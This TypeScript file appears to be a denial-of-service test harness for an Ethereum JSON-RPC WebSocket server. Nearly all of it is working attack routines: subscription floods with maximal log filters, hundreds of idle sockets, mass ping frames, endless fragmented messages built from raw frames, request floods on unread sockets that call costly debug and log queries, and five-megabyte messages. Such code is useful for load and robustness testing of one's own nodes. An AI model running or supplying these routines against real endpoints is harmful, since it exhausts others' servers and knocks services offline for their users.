import { randomBytes } from 'node:crypto'
import type { Socket as TcpSocket } from 'node:net'
import WebSocket from 'ws'
import { batchOf, call, MOST, wideCriteria } from './http.ts'
import { type Attack, count, idle, lanes, type Scene } from './scene.ts'

/** A WebSocket that the end of the attack ends; what it receives is thrown away. */
const open = (scene: Scene): Promise<WebSocket> =>
  new Promise((resolve, reject) => {
    const { host, port, wsPath } = scene.target
    const socket = new WebSocket(`ws://${host}:${port}${wsPath}`, { localAddress: scene.from() } as never)
    const stop = () => socket.terminate()
    scene.signal.addEventListener('abort', stop, { once: true })
    socket.once('open', () => resolve(socket))
    socket.on('error', reject)
    socket.once('close', (code: number) => {
      scene.signal.removeEventListener('abort', stop)
      count(scene, `closed ${code}`)
      reject(new Error('closed'))
    })
    socket.on('message', () => count(scene, 'messages'))
  })

const closed = (socket: WebSocket): Promise<void> =>
  new Promise(resolve => {
    if (socket.readyState === socket.CLOSED) return resolve()
    socket.once('close', () => resolve())
  })

const say = (socket: WebSocket, text: string): Promise<void> =>
  new Promise(resolve => {
    if (socket.readyState !== socket.OPEN) return resolve()
    socket.send(text, () => resolve())
  })

const rest = async (scene: Scene, socket: WebSocket, ms: number): Promise<void> => {
  await Promise.race([closed(socket), idle(scene, ms)])
  socket.terminate()
}

const raw = (socket: WebSocket): TcpSocket => (socket as unknown as { readonly _socket: TcpSocket })._socket

/** Subscriptions to logs with criteria as large as they may be. */
export const wideSubscriptions: Attack = scene =>
  lanes(scene, 4, async () => {
    const socket = await open(scene)
    for (let i = 0; i < 150; i++) {
      const { address, topics } = wideCriteria()
      await say(socket, call('eth_subscribe', ['logs', { address, topics }], i))
    }
    await rest(scene, socket, 5_000)
  })

/** Thousands of subscriptions on every socket: to all logs, heads and transactions; every other client does not read. */
export const subscriptions: Attack = scene =>
  lanes(scene, 8, async lane => {
    const socket = await open(scene)
    const kinds = [['logs', {}], ['newHeads'], ['newPendingTransactions', true], ['syncing']]
    for (let i = 0; i < 3; i++)
      await say(
        socket,
        batchOf(1_000, id => call('eth_subscribe', kinds[id % 4], id)),
      )
    if (lane % 2 === 0) socket.pause()
    await rest(scene, socket, 5_000)
  })

/** Subscriptions that come and go. */
export const restless: Attack = scene =>
  lanes(scene, 8, async () => {
    const socket = await open(scene)
    for (let i = 0; i < 20 && socket.readyState === socket.OPEN; i++) {
      const one = wideCriteria(100, 10)
      await say(
        socket,
        batchOf(100, id => call('eth_subscribe', ['logs', one], id)),
      )
      await say(
        socket,
        batchOf(100, id => call('eth_unsubscribe', [`0x${randomBytes(16).toString('hex')}`], id)),
      )
      await idle(scene, 50)
    }
    socket.terminate()
    count(scene, 'gone')
  })

/** Thousands of sockets that do nothing. */
export const idleSockets: Attack = scene =>
  lanes(scene, 500, async () => {
    const socket = await open(scene)
    count(scene, 'opened')
    await rest(scene, socket, 10_000)
  })

const MASK = Buffer.alloc(4)

/** A frame of a client as bytes; the mask is zero. */
const frame = (opcode: number, payload: Uint8Array, fin = true): Buffer => {
  const length = payload.byteLength
  const head = length < 126 ? Buffer.from([length | 0x80]) : Buffer.from([126 | 0x80, length >> 8, length & 0xff])
  return Buffer.concat([Buffer.from([(fin ? 0x80 : 0) | opcode]), head, MASK, payload])
}

const repeated = (times: number, bytes: Uint8Array): Buffer => Buffer.concat(Array.from({ length: times }, () => bytes))

const pour = (socket: WebSocket, bytes: Uint8Array): Promise<void> =>
  new Promise(resolve => {
    const tcp = raw(socket)
    if (tcp.destroyed) return resolve()
    tcp.write(bytes, () => resolve())
  })

/** Pings by the million, whose answers are never read. */
export const pings: Attack = scene =>
  lanes(scene, 4, async () => {
    const socket = await open(scene)
    socket.pause()
    const many = repeated(1_000, frame(9, Buffer.alloc(125)))
    for (let i = 0; i < 100 && !raw(socket).destroyed; i++) await Promise.race([pour(socket, many), idle(scene, 500)])
    await rest(scene, socket, 1_000)
  })

/** Messages in fragments of a byte or of none, never whole. */
export const fragments: Attack = scene =>
  lanes(scene, 8, async lane => {
    const socket = await open(scene)
    const size = lane % 2
    const many = repeated(10_000, frame(0, Buffer.alloc(size, 0x20), false))
    await pour(socket, frame(1, Buffer.alloc(1, 0x5b), false))
    for (let i = 0; i < 100 && !raw(socket).destroyed; i++) await Promise.race([pour(socket, many), idle(scene, 500)])
    await rest(scene, socket, 1_000)
  })

/** Requests without end on sockets that never read. */
export const deafSockets: Attack = scene =>
  lanes(scene, 16, async lane => {
    const socket = await open(scene)
    socket.pause()
    const { loggers } = scene.target
    const bodies = [
      call('rpc.discover', []),
      batchOf(1_000, id => call('eth_getBlockByNumber', ['latest', true], id)),
      call('eth_getLogs', [{ fromBlock: '0x0', toBlock: 'latest', address: loggers[0] }]),
      call('debug_traceBlockByNumber', ['latest', { enableMemory: true }]),
    ]
    for (let i = 0; i < 200 && socket.readyState === socket.OPEN; i++) {
      await Promise.race([say(socket, bodies[(lane + i) % bodies.length] as string), idle(scene, 200)])
      count(scene, 'requests')
    }
    await rest(scene, socket, 3_000)
  })

/** Messages of five megabytes, whole and never whole. */
export const wideMessages: Attack = scene =>
  lanes(scene, 8, async lane => {
    const socket = await open(scene)
    const text = ' '.repeat(MOST - 10)
    for (let i = 0; i < 3; i++) await say(socket, text)
    if (lane % 2 === 0) for (let i = 0; i < 4; i++) socket.send(' '.repeat(2 ** 20), { fin: false })
    await rest(scene, socket, 2_000)
  })
